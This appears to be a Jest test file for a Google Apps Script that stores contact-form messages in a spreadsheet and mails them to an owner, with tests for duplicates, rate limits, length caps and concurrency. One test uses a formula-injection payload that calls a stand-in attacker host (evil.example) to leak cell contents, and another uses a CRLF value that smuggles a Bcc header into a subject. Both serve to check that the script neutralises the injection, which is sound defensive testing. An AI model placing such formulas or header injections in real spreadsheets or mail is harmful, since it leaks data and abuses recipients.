import { createGoogleScript, type GoogleScript } from '../support/googleScript'

let google: GoogleScript
beforeEach(() => {
  jest.useFakeTimers({ now: new Date('2026-11-28T09:00:00Z') })
  google = createGoogleScript()
})
afterEach(() => jest.useRealTimers())

let count = 0
const createMessage = (change: object = {}) => ({
  name: 'Zoë Ames',
  email: 'zoe@ames.io',
  message: 'We would like to talk: https://ames.io',
  timestamp: new Date(Date.UTC(2026, 10, 28) + ++count).toISOString(),
  source: 'Example website',
  ...change,
})

const send = (change: object = {}) => google.post(JSON.stringify(createMessage(change)))

/** Rows below the headings, without the time of arrival. */
const readRows = () => google.rows.slice(1).map((row) => row.slice(1).map(({ text }) => text))
const readStates = () => readRows().map((row) => row.at(-1))

const refuseMail = () => {
  throw new Error('Service invoked too many times for one day: email.')
}

describe('The script for a Google account', () => {
  it('stores a message, then mails it so that a reply goes to the visitor', () => {
    google.onMail = () => expect(readRows()).toHaveLength(1)
    const sent = createMessage()
    expect(google.post(JSON.stringify(sent))).toBe('stored')
    expect(readRows()).toEqual([[sent.name, sent.email, sent.message, sent.timestamp, 'told']])
    expect(google.mails).toEqual([
      {
        to: 'owner@gmail.com',
        replyTo: sent.email,
        subject: `Message from ${sent.name}`,
        body: `${sent.message}\n\n${sent.name}, ${sent.email}`,
      },
    ])
  })

  it('drops a message that is sent twice, and keeps another with the same words', () => {
    const sent = JSON.stringify(createMessage())
    expect([google.post(sent), google.post(sent), send()]).toEqual(Array(3).fill('stored'))
    expect(readRows()).toHaveLength(2)
    expect(google.mails).toHaveLength(2)
  })

  it('stores text as text, never as a formula', () => {
    const formula = '=IMPORTXML("https://evil.example/?" & A1, "//a")'
    for (const text of [formula, '+1', '-1', "'=1+1"]) {
      send({ name: text, email: text, message: text, timestamp: `${text} ${count}` })
    }
    const written = google.rows.slice(1).flatMap((row) => row.slice(1))
    expect(written).toHaveLength(20)
    expect(written.filter(({ isFormula }) => isFormula)).toEqual([])
    expect(written[0]!.text).toBe(formula)
  })

  it.each([
    ['of another form', '[]'],
    ['null', 'null'],
    ['no JSON', 'name=Ann&message=Hello'],
    ['empty', ''],
  ])('stores a body that is %s', (_, contents) => {
    expect(google.post(contents)).toBe('stored')
    expect(readRows()).toHaveLength(1)
  })

  it('limits the length of each text, and writes one line into the subject', () => {
    const long = 'x'.repeat(100_000)
    send({ name: `Ann\r\nBcc: all@ames.io ${long}`, email: long, message: long, timestamp: long })
    const lengths = readRows()[0]!.map(({ length }) => length)
    expect(lengths.every((length) => length <= 5000)).toBe(true)
    expect(google.mails[0]!.subject).toMatch(/^Message from Ann Bcc: all@ames\.io x+$/)
  })

  it.each(['nobody', 'zoe@ames.io, all@ames.io', '"Zoë" <zoe@ames.io>'])(
    'mails a message whose email address is %s, without an address for the reply',
    (email) => {
      send({ email })
      expect(google.mails).toHaveLength(1)
      expect(google.mails[0]).not.toHaveProperty('replyTo')
    },
  )

  it('keeps what Google refuses to mail, and says in the next mail how many wait', () => {
    google.onMail = refuseMail
    expect([send(), send()]).toEqual(['stored', 'stored'])
    expect(readStates()).toEqual(['waiting', 'waiting'])
    google.onMail = () => undefined
    send()
    expect(google.mails.map(({ body }) => body)).toEqual([
      expect.stringContaining('2 more waiting in https://docs.google.com/'),
    ])
    expect(readStates()).toEqual(['told', 'told', 'told'])
    send()
    expect(google.mails[1]!.body).not.toContain('waiting')
  })

  it('stores 200 messages of a burst, mails ten an hour, and counts the others later', () => {
    for (let index = 0; index < 200; index++) send()
    expect(readRows()).toHaveLength(200)
    expect(google.mails).toHaveLength(10)
    jest.advanceTimersByTime(60 * 60 * 1000)
    send({ name: 'Client' })
    expect(google.mails).toHaveLength(11)
    expect(google.mails[10]!.body).toContain('190 more waiting')
  })

  it('loses no message when two arrive at once, and drops a repeat', () => {
    const repeated = JSON.stringify(createMessage())
    google.onMail = () => {
      google.onMail = () => undefined
      // While the first run mails, others arrive.
      google.post(repeated)
      send({ name: 'Second' })
    }
    google.post(repeated)
    expect(readRows().map(([name]) => name)).toEqual(['Zoë Ames', 'Second'])
    expect(google.mails).toHaveLength(1)
    send()
    expect(readStates()).toEqual(['told', 'told', 'told'])
  })
})
